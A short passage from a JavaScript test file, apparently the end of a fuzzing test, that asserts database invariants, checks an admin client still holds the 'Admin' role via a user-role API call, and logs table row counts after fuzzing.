      await assertDatabaseInvariants();
      const admin = clients.get("admin");
      assert.ok(admin, "admin is there");
      const role = await admin.get("/api/User/GetUserRole");
      assert.equal(role.status, 200);
      assert.equal(role.body.userRole, "Admin");
      const counts = await rowCounts();
      console.log(`rows after fuzzing: ${JSON.stringify(counts)}`);
    });
  });
}
